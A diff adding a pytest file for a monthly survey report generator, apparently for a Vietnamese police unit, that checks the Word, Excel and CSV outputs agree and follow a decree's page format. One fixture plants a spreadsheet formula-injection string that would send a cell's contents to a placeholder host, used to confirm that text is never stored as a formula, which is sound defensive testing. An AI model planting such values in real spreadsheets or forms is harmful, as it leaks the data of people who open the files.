@@ -1,0 +1,196 @@
+"""The report's files read back: the same figures in all of them, no formulas, the decree's form."""
+
+import csv
+import io
+import time
+from dataclasses import replace
+from decimal import Decimal
+
+import docx
+import openpyxl
+import pytest
+from months import make_month
+
+from omr.records.periods import parse_period
+from omr.records.tallies import Tallies
+from omr.reports import monthly, tidy
+from omr.reports.document import document
+from omr.reports.figures import vietnamese
+from omr.reports.statistics import Month, Opinion
+from omr.reports.tables import printed
+from omr.reports.workbook import workbook
+from omr.workspace import ReportSettings
+
+SETTINGS = ReportSettings()
+HOSTILE = '=HYPERLINK("http://x/?"&A1,"bấm") \x07 <b> & "'
+
+
+def report_of(month, before):
+    tables = monthly.annex(month, before, SETTINGS)
+    return tables, document(month, before, tables, SETTINGS), workbook(month, tables)
+
+
+@pytest.fixture(scope="module")
+def march():
+    month = make_month("2025-03")
+    hostile = Opinion("PC06", "DL-01", "+Khác", HOSTILE)
+    return replace(month, opinions=(*month.opinions, hostile))
+
+
+@pytest.fixture(scope="module")
+def february():
+    return make_month("2025-02")
+
+
+@pytest.fixture(scope="module")
+def files(march, february):
+    return report_of(march, february)
+
+
+@pytest.fixture(scope="module")
+def written(files):
+    return docx.Document(io.BytesIO(files[1]))
+
+
+@pytest.fixture(scope="module")
+def sheets(files):
+    return openpyxl.load_workbook(io.BytesIO(files[2]))
+
+
+def biểu(written, table):
+    """The Word table with a Biểu's headings."""
+    wanted = [column.heading for column in table.columns if not column.over]
+    for found in written.tables:
+        headings = {cell.text for row in found.rows[:2] for cell in row.cells}
+        if len(found.columns) == len(table.columns) and headings.issuperset(wanted):
+            return [[cell.text for cell in row.cells] for row in found.rows]
+    raise AssertionError(table.title)
+
+
+def test_the_document_prints_every_cell(files, written):
+    for table in files[0]:
+        rows = biểu(written, table)
+        for row, read in zip(reversed(table.rows), reversed(rows), strict=False):
+            shown = [printed(cell, of.style) for cell, of in zip(row.cells, table.columns, strict=True)]
+            if row.weight.name == "GROUP":  # one cell across the table
+                assert set(read) == {next(text for text in shown if text)}
+            else:
+                assert [text.replace("\x07", " ") for text in shown] == read
+
+
+def figure_rows(month):
+    data = tidy.as_csv(tidy.FIGURES, tidy.figure_rows(month))
+    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
+
+
+def test_all_files_say_the_same_of_every_unit(march, files, written, sheets):
+    overall = {
+        march.names[row["unit"]]: row
+        for row in figure_rows(march)
+        if row["measure"] == "overall" and row["unit"]
+    }
+    in_document = {row[1]: row for row in biểu(written, files[0][1])}
+    in_workbook = {row[1]: row for row in sheets["Biểu 02"].iter_rows(values_only=True)}
+    counted = [name for name, row in overall.items() if row["N"] != "0"]
+    assert len(counted) == 17
+    for name in counted:
+        row = overall[name]
+        percent = Decimal(row["percent"])
+        assert in_document[name][13:15] == [vietnamese(int(row["n"])), vietnamese(percent)]
+        assert in_workbook[name][13:15] == (int(row["n"]), float(percent))
+        assert in_workbook[name][15:17] == (float(row["low95"]), float(row["high95"]))
+
+
+def test_the_overall_figure_is_the_same_everywhere(march, written, sheets):
+    share = march.pool().overall
+    text = "\n".join(paragraph.text for paragraph in written.paragraphs)
+    assert f"{vietnamese(share.part)}/{vietnamese(share.whole)} phiếu" in text
+    assert f"chiếm tỷ lệ {vietnamese(share.percent())}%" in text
+    total = list(sheets["Biểu 02"].iter_rows(values_only=True))
+    (city,) = [row for row in total if row[1] == "Toàn thành phố"]
+    assert city[2] == share.whole and city[13:15] == (share.part, float(share.percent()))
+    figures = monthly.figures(march)
+    assert figures["overall"] == {"satisfied": share.part, "answered": share.whole}
+    b1 = figures["questions"]["DL-01/B1"]
+    assert sum(b1["counts"].values()) == b1["answered"]
+    assert b1["counts"]["5"] + b1["counts"]["4"] == b1["satisfied"]
+
+
+def test_the_workbooks_raw_data_are_the_csv(march, sheets):
+    data = tidy.as_csv(tidy.COUNTS, tidy.count_rows(march)).decode("utf-8-sig")
+    expected = list(csv.reader(io.StringIO(data, newline="")))
+    rows = [
+        ["" if v is None else str(v) for v in row] for row in sheets["Số liệu"].iter_rows(values_only=True)
+    ]
+    assert rows == expected
+
+
+def test_text_is_never_a_formula(sheets):
+    kinds = {cell.data_type for sheet in sheets for row in sheet.iter_rows() for cell in row}
+    assert "f" not in kinds
+    opinions = [row[1] for row in sheets["Biểu 07"].iter_rows(values_only=True)]
+    assert any(str(text).startswith("=HYPERLINK") for text in opinions)
+
+
+def test_numbers_are_numbers(files, sheets):
+    for table in files[0][:2]:
+        (city,) = [
+            row for row in sheets[f"Biểu {table.number}"].iter_rows() if row[1].value == "Toàn thành phố"
+        ]
+        assert [cell.data_type for cell in city].count("n") >= 8
+
+
+def test_sheets_are_ready_to_print(sheets):
+    for sheet in sheets:
+        assert sheet.page_setup.paperSize == 9 and sheet.page_setup.fitToHeight == 0
+        if sheet.title.startswith("Biểu 0"):
+            assert sheet.freeze_panes is not None and sheet.print_title_rows
+
+
+def test_the_same_month_gives_the_same_bytes_on_another_day(march, february, files, monkeypatch):
+    monkeypatch.setattr(time, "time", lambda: 4_000_000_000.0)
+    assert report_of(march, february)[1:] == files[1:]
+
+
+def test_the_page_is_the_decrees(written):
+    first, annex, method = written.sections
+    assert (round(first.page_width.mm), round(first.page_height.mm)) == (210, 297)
+    assert (round(annex.page_width.mm), round(annex.page_height.mm)) == (297, 210)
+    for section in (first, annex, method):
+        assert all(20 <= round(edge.mm, 1) <= 25 for edge in (section.top_margin, section.bottom_margin))
+        assert 30 <= round(section.left_margin.mm, 1) <= 35
+        assert 15 <= round(section.right_margin.mm, 1) <= 20
+        assert section.different_first_page_header_footer
+        assert "PAGE" not in section.first_page_header._element.xml
+        assert "PAGE" in section.header._element.xml
+        assert "mã dữ liệu" in section.footer.paragraphs[0].text
+        assert section.first_page_footer.paragraphs[0].text == section.footer.paragraphs[0].text
+    assert written.styles["Normal"].font.name == "Times New Roman"
+
+
+def test_nothing_is_signed_or_numbered_for_the_office(written):
+    left, right = (cell.text for cell in written.tables[0].rows[0].cells)
+    assert "Số:          /BC-PV01" in left
+    assert "ngày       tháng       năm 2025" in right
+    signature = next(table for table in written.tables if "Nơi nhận:" in table.rows[0].cells[0].text)
+    assert signature.rows[0].cells[1].text.strip() == "TRƯỞNG PHÒNG"
+    assert "MẬT" not in "\n".join(paragraph.text for paragraph in written.paragraphs)
+
+
+def test_an_empty_month_and_no_month_at_all_are_reported(february):
+    april = make_month("2025-04")
+    nothing = Month(parse_period("2025-04"), {}, (), Tallies())
+    for month, before in ((april, february), (nothing, None)):
+        _, written, _ = report_of(month, before)
+        text = "\n".join(paragraph.text for paragraph in docx.Document(io.BytesIO(written)).paragraphs)
+        assert "không có phiếu hợp lệ nào" in text
+        assert "nan" not in text and "None" not in text
+
+
+def test_a_units_report_speaks_of_that_unit_only(march, february, tmp_path):
+    unit = march.only("PC06")
+    paths = monthly.write(unit, february.only("PC06"), tmp_path, monthly.FORMATS, SETTINGS)
+    assert {path.name for path in paths} >= {"bao-cao-2025-03-PC06.docx", "bieu-2025-03-PC06.xlsx"}
+    text = "\n".join(p.text for p in docx.Document(tmp_path / "bao-cao-2025-03-PC06.docx").paragraphs)
+    assert "Phòng Cảnh sát quản lý hành chính về trật tự xã hội tháng 3 năm 2025" in text
+    assert "giao thông" not in text.casefold()
